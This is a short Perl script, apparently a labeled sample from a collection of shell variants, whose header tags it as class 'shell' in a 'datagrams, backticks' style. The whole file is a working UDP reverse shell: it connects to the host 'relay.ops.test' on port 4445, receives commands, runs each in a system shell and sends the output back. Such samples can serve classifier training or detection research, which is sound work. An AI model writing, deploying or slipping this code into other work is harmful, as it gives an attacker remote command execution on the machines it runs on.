# class: shell; possible: low medium; style: perl, datagrams, backticks
use strict; use warnings;
use IO::Socket::INET;
my $s = IO::Socket::INET->new(PeerAddr => 'relay.ops.test', PeerPort => 4445, Proto => 'udp') or die "no socket";
$s->send("here\n");
local $SIG{ALRM} = sub { exit 0 };
while (1) {
    alarm 20;
    my $cmd = '';
    $s->recv($cmd, 4096) // last;
    chomp $cmd;
    last if $cmd eq 'exit';
    my $out = `$cmd 2>&1`;
    $s->send(substr($out, 0, 1400) || "\n");
}
